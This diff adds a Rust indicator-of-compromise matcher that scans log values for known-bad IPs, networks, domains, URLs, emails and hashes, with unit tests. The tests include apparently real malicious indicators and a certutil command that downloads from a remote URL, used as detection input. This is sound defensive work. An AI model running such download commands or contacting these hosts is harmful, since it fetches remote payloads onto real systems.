@@ -1,0 +1,346 @@
+//! Indicators compiled for matching: hash maps per kind (IPv4 as `u32`, IPv6 as `u128`,
+//! networks per prefix length, domains by every parent suffix, URLs, emails, hashes), and a
+//! single pass over each field value that cuts it into tokens and looks up only the tokens
+//! that could be an indicator of a kind present. Hundreds of thousands of indicators cost
+//! memory, not time per event.
+
+use std::collections::{HashMap, HashSet};
+use std::net::IpAddr;
+
+use xxhash_rust::xxh3::Xxh3Builder;
+
+use crate::indicator::{Indicator, Kind, normalise_url, parse_cidr};
+
+type Map<K> = HashMap<K, u32, Xxh3Builder>;
+
+/// One indicator seen in one value.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Hit {
+    /// Index into [`IocSet::indicators`].
+    pub indicator: u32,
+}
+
+#[derive(Default)]
+pub struct IocSet {
+    pub indicators: Vec<Indicator>,
+    ipv4: Map<u32>,
+    ipv6: Map<u128>,
+    cidr4: Vec<(u8, Map<u32>)>,
+    cidr6: Vec<(u8, Map<u128>)>,
+    domains: Map<Box<str>>,
+    /// Last labels of indicator domains: a token ending elsewhere is not looked up.
+    tlds: HashSet<Box<str>, Xxh3Builder>,
+    urls: Map<Box<str>>,
+    emails: Map<Box<str>>,
+    hashes: Map<Box<str>>,
+    /// Indicators dropped because an earlier one had the same kind and value.
+    pub duplicates: usize,
+}
+
+impl IocSet {
+    pub fn new(indicators: Vec<Indicator>) -> IocSet {
+        let mut s = IocSet::default();
+        for ind in indicators {
+            s.add(ind);
+        }
+        s
+    }
+
+    pub fn len(&self) -> usize {
+        self.indicators.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.indicators.is_empty()
+    }
+
+    pub fn add(&mut self, ind: Indicator) {
+        let i = self.indicators.len() as u32;
+        let fresh = match ind.kind {
+            Kind::Ipv4 => ind.value.parse::<std::net::Ipv4Addr>().is_ok_and(|a| self.ipv4.insert(a.into(), i).is_none()),
+            Kind::Ipv6 => ind.value.parse::<std::net::Ipv6Addr>().is_ok_and(|a| self.ipv6.insert(a.into(), i).is_none()),
+            Kind::Cidr => match parse_cidr(&ind.value) {
+                Some((IpAddr::V4(a), len)) => {
+                    let slot = match self.cidr4.iter().position(|(l, _)| *l == len) {
+                        Some(p) => p,
+                        None => {
+                            self.cidr4.push((len, Map::default()));
+                            self.cidr4.len() - 1
+                        }
+                    };
+                    self.cidr4[slot].1.insert(a.into(), i).is_none()
+                }
+                Some((IpAddr::V6(a), len)) => {
+                    let slot = match self.cidr6.iter().position(|(l, _)| *l == len) {
+                        Some(p) => p,
+                        None => {
+                            self.cidr6.push((len, Map::default()));
+                            self.cidr6.len() - 1
+                        }
+                    };
+                    self.cidr6[slot].1.insert(a.into(), i).is_none()
+                }
+                None => false,
+            },
+            Kind::Domain => {
+                if let Some(tld) = ind.value.rsplit('.').next() {
+                    self.tlds.insert(tld.into());
+                }
+                self.domains.insert(ind.value.as_str().into(), i).is_none()
+            }
+            Kind::Url => self.urls.insert(ind.value.as_str().into(), i).is_none(),
+            Kind::Email => {
+                if let Some((_, d)) = ind.value.split_once('@')
+                    && let Some(tld) = d.rsplit('.').next()
+                {
+                    self.tlds.insert(tld.into());
+                }
+                self.emails.insert(ind.value.as_str().into(), i).is_none()
+            }
+            Kind::Md5 | Kind::Sha1 | Kind::Sha256 => self.hashes.insert(ind.value.as_str().into(), i).is_none(),
+        };
+        if fresh {
+            self.indicators.push(ind);
+        } else {
+            self.duplicates += 1;
+        }
+    }
+
+    /// Every indicator found in `value`, each once.
+    pub fn scan(&self, value: &str, out: &mut Vec<Hit>) {
+        let start = out.len();
+        if value.len() < 3 || value.len() > 64 * 1024 || self.indicators.is_empty() {
+            return;
+        }
+        let b = value.as_bytes();
+        if !self.urls.is_empty() && b.len() > 8 && memchr_sub(b, b"://") {
+            self.scan_urls(value, out);
+        }
+        let mut lower = [0u8; 256];
+        let mut i = 0;
+        while i < b.len() {
+            while i < b.len() && !token_byte(b[i]) {
+                i += 1;
+            }
+            let s = i;
+            let (mut dots, mut colons, mut at, mut alpha, mut hex, mut digits_dots) = (0, 0, false, false, true, true);
+            while i < b.len() && token_byte(b[i]) {
+                let c = b[i];
+                match c {
+                    b'.' => dots += 1,
+                    b':' => colons += 1,
+                    b'@' => at = true,
+                    _ => {}
+                }
+                alpha |= c.is_ascii_alphabetic();
+                hex &= c.is_ascii_hexdigit();
+                digits_dots &= c.is_ascii_digit() || c == b'.';
+                i += 1;
+            }
+            let tok = &value[s..i];
+            if tok.len() < 3 {
+                continue;
+            }
+            if digits_dots && dots == 3 {
+                if let Some(ip) = ipv4(tok) {
+                    self.lookup_v4(ip, out);
+                }
+                continue;
+            }
+            if hex && matches!(tok.len(), 32 | 40 | 64) && !self.hashes.is_empty() {
+                let l = lowered(tok, &mut lower);
+                if let Some(&x) = self.hashes.get(l) {
+                    out.push(Hit { indicator: x });
+                }
+                continue;
+            }
+            if colons >= 2 && !self.ipv6.is_empty() | !self.cidr6.is_empty() {
+                if let Ok(IpAddr::V6(a)) = tok.parse::<IpAddr>() {
+                    self.lookup_v6(a.into(), out);
+                }
+                continue;
+            }
+            // host:port
+            let tok = if colons == 1 { tok.split(':').next().unwrap_or(tok) } else { tok };
+            if colons == 1 && dots == 3 && let Some(ip) = ipv4(tok) {
+                self.lookup_v4(ip, out);
+                continue;
+            }
+            if at && !self.emails.is_empty() && tok.len() <= 254 {
+                let l = lowered(tok.trim_matches('.'), &mut lower);
+                if let Some(&x) = self.emails.get(l) {
+                    out.push(Hit { indicator: x });
+                }
+            }
+            if alpha && dots > 0 && !self.domains.is_empty() && tok.len() <= 253 {
+                let host = if at { tok.rsplit('@').next().unwrap_or(tok) } else { tok };
+                let host = host.trim_matches(['.', '-']);
+                let l = lowered(host, &mut lower);
+                let tld = l.rsplit('.').next().unwrap_or("");
+                if self.tlds.contains(tld) {
+                    // The domain and each parent: `a.b.evil.com` matches `evil.com`.
+                    let mut d = l;
+                    loop {
+                        if let Some(&x) = self.domains.get(d) {
+                            out.push(Hit { indicator: x });
+                            break;
+                        }
+                        match d.find('.') {
+                            Some(p) if d[p + 1..].contains('.') => d = &d[p + 1..],
+                            _ => break,
+                        }
+                    }
+                }
+            }
+        }
+        dedup_from(out, start);
+    }
+
+    fn scan_urls(&self, value: &str, out: &mut Vec<Hit>) {
+        let lower = value.to_ascii_lowercase();
+        let mut from = 0;
+        while let Some(p) = lower[from..].find("://") {
+            let at = from + p;
+            let start = lower[..at].rfind(|c: char| !c.is_ascii_alphabetic()).map(|i| i + 1).unwrap_or(0);
+            let end = value[at..].find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`')).map(|e| at + e).unwrap_or(value.len());
+            if let Some(u) = normalise_url(&value[start..end])
+                && let Some(&x) = self.urls.get(u.as_str())
+            {
+                out.push(Hit { indicator: x });
+            }
+            from = at + 3;
+        }
+    }
+
+    fn lookup_v4(&self, ip: u32, out: &mut Vec<Hit>) {
+        if let Some(&x) = self.ipv4.get(&ip) {
+            out.push(Hit { indicator: x });
+        }
+        for (len, m) in &self.cidr4 {
+            let mask = if *len == 0 { 0 } else { u32::MAX << (32 - len) };
+            if let Some(&x) = m.get(&(ip & mask)) {
+                out.push(Hit { indicator: x });
+            }
+        }
+    }
+
+    fn lookup_v6(&self, ip: u128, out: &mut Vec<Hit>) {
+        if let Some(&x) = self.ipv6.get(&ip) {
+            out.push(Hit { indicator: x });
+        }
+        for (len, m) in &self.cidr6 {
+            let mask = if *len == 0 { 0 } else { u128::MAX << (128 - len) };
+            if let Some(&x) = m.get(&(ip & mask)) {
+                out.push(Hit { indicator: x });
+            }
+        }
+    }
+}
+
+fn dedup_from(out: &mut Vec<Hit>, start: usize) {
+    if out.len() - start > 1 {
+        out[start..].sort_unstable_by_key(|h| h.indicator);
+        let mut keep = start + 1;
+        for j in start + 1..out.len() {
+            if out[j] != out[keep - 1] {
+                out[keep] = out[j];
+                keep += 1;
+            }
+        }
+        out.truncate(keep);
+    }
+}
+
+fn token_byte(c: u8) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b'@' | b':')
+}
+
+fn memchr_sub(h: &[u8], n: &[u8]) -> bool {
+    h.windows(n.len()).any(|w| w == n)
+}
+
+fn lowered<'a>(s: &'a str, buf: &'a mut [u8; 256]) -> &'a str {
+    if s.len() > buf.len() || !s.bytes().any(|c| c.is_ascii_uppercase()) {
+        return s;
+    }
+    let b = &mut buf[..s.len()];
+    b.copy_from_slice(s.as_bytes());
+    b.make_ascii_lowercase();
+    std::str::from_utf8(b).unwrap_or(s)
+}
+
+/// A dotted quad, strictly (no leading `+`, each part ≤ 255).
+fn ipv4(s: &str) -> Option<u32> {
+    let mut out = 0u32;
+    let mut parts = 0;
+    for p in s.split('.') {
+        if p.is_empty() || p.len() > 3 {
+            return None;
+        }
+        let n: u32 = p.parse().ok()?;
+        if n > 255 {
+            return None;
+        }
+        out = (out << 8) | n;
+        parts += 1;
+    }
+    (parts == 4).then_some(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use std::sync::Arc;
+
+    use super::*;
+    use crate::indicator::{Context, normalise};
+
+    fn set(values: &[&str]) -> IocSet {
+        let ctx = Arc::new(Context::default());
+        IocSet::new(
+            values
+                .iter()
+                .map(|v| {
+                    let (kind, value) = normalise(None, v).unwrap();
+                    Indicator { kind, value, context: ctx.clone(), stix_id: None }
+                })
+                .collect(),
+        )
+    }
+
+    fn hits(s: &IocSet, v: &str) -> Vec<String> {
+        let mut out = Vec::new();
+        s.scan(v, &mut out);
+        out.iter().map(|h| s.indicators[h.indicator as usize].value.clone()).collect()
+    }
+
+    #[test]
+    fn each_kind_matches_inside_values() {
+        let s = set(&[
+            "47.242.39.92", "10.20.0.0/16", "2001:db8::/32", "2001:db8:1::5", "nropnews.com", "http://206.188.196.77:8080/themes.aspx",
+            "bad@evil.example", &"ab".repeat(32), "d41d8cd98f00b204e9800998ecf8427e",
+        ]);
+        assert_eq!(hits(&s, "47.242.39.92"), vec!["47.242.39.92"]);
+        assert_eq!(hits(&s, "from 47.242.39.92:443 to x"), vec!["47.242.39.92"]);
+        assert!(hits(&s, "147.242.39.92").is_empty());
+        assert_eq!(hits(&s, "10.20.3.4"), vec!["10.20.0.0/16"]);
+        assert!(hits(&s, "10.21.3.4").is_empty());
+        assert_eq!(hits(&s, "2001:db8:ffff::1"), vec!["2001:db8::/32"]);
+        assert_eq!(hits(&s, "2001:db8:1::5"), vec!["2001:db8::/32", "2001:db8:1::5"]);
+        assert_eq!(hits(&s, "GET https://track.NROPNEWS.com/o/x"), vec!["nropnews.com"], "subdomain, any case");
+        assert!(hits(&s, "notnropnews.com").is_empty(), "a longer label is not a subdomain");
+        assert!(hits(&s, "nropnews.com.evil.example").is_empty());
+        assert_eq!(hits(&s, r#"certutil -urlcache -split -f http://206.188.196.77:8080/themes.aspx c:\t"#), vec![
+            "http://206.188.196.77:8080/themes.aspx"
+        ]);
+        assert_eq!(hits(&s, "From: <BAD@evil.example>"), vec!["bad@evil.example"]);
+        assert_eq!(hits(&s, &format!("hash={}", "AB".repeat(32))), vec!["ab".repeat(32)]);
+        assert_eq!(hits(&s, "D41D8CD98F00B204E9800998ECF8427E"), vec!["d41d8cd98f00b204e9800998ecf8427e"]);
+        assert!(hits(&s, "Mozilla/5.0 (Windows NT 10.0)").is_empty());
+    }
+
+    #[test]
+    fn duplicates_are_merged() {
+        let s = set(&["1.2.3.4", "1.2.3[.]4", "evil.com", "EVIL.com"]);
+        assert_eq!((s.len(), s.duplicates), (2, 2));
+    }
+}
